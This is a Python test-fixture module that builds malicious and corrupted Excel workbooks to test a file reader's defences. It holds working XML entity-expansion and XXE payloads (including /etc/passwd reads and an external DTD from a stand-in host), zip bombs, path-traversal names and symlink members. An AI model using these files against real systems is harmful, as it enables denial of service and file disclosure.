"""Files made to harm whoever opens them, and files broken on the way: each a function that writes one at a path."""

from __future__ import annotations

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Final

from ecopark.workbook.package import TRANSITIONAL

from ..refusals.good import good
from .mutants import members_of, written

Make = Callable[[Path], object]
MEGABYTE: Final = 2**20

SHEET: Final = "xl/worksheets/sheet3.xml"
"""The Plants of the good workbook."""
UNREAD: Final = "xl/theme/theme1.xml"
"""A part that nobody reads."""

LAUGHS: Final = (
    '<!DOCTYPE a [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12)) + "]>"
)
LONG: Final = f'<!DOCTYPE a [<!ENTITY a11 "{"ha" * 100_000}">]>'
OUTER: Final = '<!DOCTYPE a [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>'
ELSEWHERE: Final = '<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd" [<!ENTITY % p SYSTEM "http://192.0.2.1/b.dtd"> %p;]>'


def parts() -> dict[str, bytes]:
    """The parts of the good workbook."""
    return members_of(written(good()))


def pack(path: Path, members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> None:
    """Write members as a zip."""
    with zipfile.ZipFile(path, "w", method, compresslevel=1) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def with_part(name: str, content: Callable[[bytes], bytes] | bytes) -> Make:
    """The good workbook with one part made anew."""

    def make(path: Path) -> None:
        members = parts()
        members[name] = content if isinstance(content, bytes) else content(members[name])
        pack(path, members)

    return make


def with_doctype(name: str, doctype: str, uses: int = 1) -> Make:
    """A part that declares entities, and uses the last of them."""

    def change(data: bytes) -> bytes:
        text = data.decode().partition("?>")[2] if data.startswith(b"<?xml") else data.decode()
        start = text.index(">") + 1
        return (doctype + text[:start] + "&a11;" * uses + text[start:]).encode()

    return with_part(name, change)


def in_utf16(name: str, doctype: str) -> Make:
    """The same in another encoding, in which no DOCTYPE is seen at first sight."""
    return with_part(
        name, lambda data: ('<?xml version="1.0" encoding="UTF-16"?>' + doctype + data.decode()).encode("utf-16")
    )


def sheet(data: str, after: str = "") -> bytes:
    """A sheet's part."""
    return f'<worksheet xmlns="{TRANSITIONAL}"><sheetData>{data}</sheetData>{after}</worksheet>'.encode()


def bomb(name: str, size: int, piece: bytes) -> Make:
    """A part that unpacks to so many bytes, all alike."""

    def make(path: Path) -> None:
        pack(path, {key: data for key, data in parts().items() if key != name})
        with (
            zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
            archive.open(name, "w") as part,
        ):
            for _ in range(size // MEGABYTE):
                part.write(piece * (MEGABYTE // len(piece)))

    return make


def said_to_unpack_to(size: int, name: str = SHEET) -> Make:
    """A part that is said to be of another size than it is."""

    def make(path: Path) -> None:
        pack(path, parts())
        data = bytearray(path.read_bytes())
        at = data.rindex(name.encode()) - 46
        struct.pack_into("<L", data, at + 24, size)
        path.write_bytes(data)

    return make


def many_bombs(path: Path) -> None:
    """Twenty parts, each just too small for a bomb."""
    members = parts()
    pack(path, members | {f"xl/media/image{n}.bmp": bytes(31 * MEGABYTE) for n in range(20)})


def overlapping(path: Path) -> None:
    """A thousand members that share one piece of the file, as in the bombs that unpack to petabytes."""
    pack(path, parts())
    data = path.read_bytes()
    end = data.rindex(b"PK\x05\x06")
    (start,) = struct.unpack_from("<L", data, end + 16)
    body = zlib.compress(bytes(30 * MEGABYTE), 9)[2:-4]
    names = [f"xl/media/image{n}.bmp".encode() for n in range(1000)]
    # Each local header stands within what the member before it claims as its own content.
    places, blob = [], b""
    for name in names:
        places.append(start + len(blob))
        blob += struct.pack("<4sHHHHHLLLHH", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, 0, 0, len(name), 0) + name
    whole = start + len(blob) + len(body)
    directory = data[start:end] + b"".join(
        struct.pack(
            "<4sHHHHHHLLLHHHHHLL",
            *(b"PK\x01\x02", 20, 20, 0, 8, 0, 33, 0, whole - place - 30 - len(name), 30 * MEGABYTE),
            *(len(name), 0, 0, 0, 0, 0, place),
        )
        + name
        for name, place in zip(names, places, strict=True)
    )
    count = struct.unpack_from("<H", data, end + 10)[0] + len(names)
    tail = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, count, count, len(directory), whole, 0)
    path.write_bytes(data[:start] + blob + body + directory + tail)


def many_members(path: Path) -> None:
    """As many members as a zip without its 64-bit form can have, all of them empty."""
    members = parts()
    pack(path, members | {f"xl/a{n:05}.xml": b"" for n in range(65_000)}, zipfile.ZIP_STORED)


def named(name: str) -> Make:
    """A member that would land elsewhere where somebody unpacks the file."""

    def make(path: Path) -> None:
        members = parts()
        with zipfile.ZipFile(path, "w") as archive:
            for key, data in members.items():
                archive.writestr(key, data)
            entry = zipfile.ZipInfo("x")
            entry.filename = name
            archive.writestr(entry, b"evil")

    return make


def link(path: Path) -> None:
    """A member that is a symbolic link."""
    members = parts()
    with zipfile.ZipFile(path, "w") as archive:
        for key, data in members.items():
            archive.writestr(key, data)
        entry = zipfile.ZipInfo("xl/evil.xml")
        entry.create_system = 3
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")


def twice(path: Path) -> None:
    """The same member twice: one program reads the first, another the last."""
    members = parts()
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for key, data in members.items():
            archive.writestr(key, data)
        archive.writestr("xl/workbook.xmX", members["xl/workbook.xml"])
    path.write_bytes(stream.getvalue().replace(b"xl/workbook.xmX", b"xl/workbook.xml"))


def cut(share: float) -> Make:
    """The first part of the file alone."""

    def make(path: Path) -> None:
        pack(path, parts())
        data = path.read_bytes()
        path.write_bytes(data[: int(len(data) * share)])

    return make


def without_directory(path: Path) -> None:
    """The table of contents is cut short, its end is there."""
    pack(path, parts())
    data = path.read_bytes()
    end = data.rindex(b"PK\x05\x06")
    path.write_bytes(data[: end - 300] + data[end:])


def claiming_64_bits(path: Path) -> None:
    """A 64-bit end that names a table of contents of petabytes."""
    pack(path, parts())
    data = path.read_bytes()
    end = data.rindex(b"PK\x05\x06")
    far = 2**62
    long = struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, far, far, far, far)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1)
    path.write_bytes(data[:end] + long + locator + data[end:])


def encrypted(size: int) -> Make:
    """What Excel makes of a workbook with a password: another container around it, with a stream of this name."""

    def make(path: Path) -> None:
        with path.open("wb") as stream:
            stream.write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
            for _ in range(size // MEGABYTE):
                stream.write(random.Random(1).randbytes(MEGABYTE))
            stream.write("EncryptedPackage".encode("utf-16-le").ljust(128, b"\0"))

    return make


def whole(data: bytes) -> Make:
    """A file of these bytes."""
    return lambda path: path.write_bytes(data)


def texts(count: int, length: int) -> Make:
    """A list of shared texts, each another."""

    def make(path: Path) -> None:
        members = parts()
        chance = random.Random(1)
        pieces = [chance.randbytes(length // 2).hex() for _ in range(64)]
        rows = "".join(f"<si><t>{n}{pieces[n % 64]}</t></si>" for n in range(count))
        members["xl/sharedStrings.xml"] = f'<sst xmlns="{TRANSITIONAL}">{rows}</sst>'.encode()
        pack(path, members)

    return make
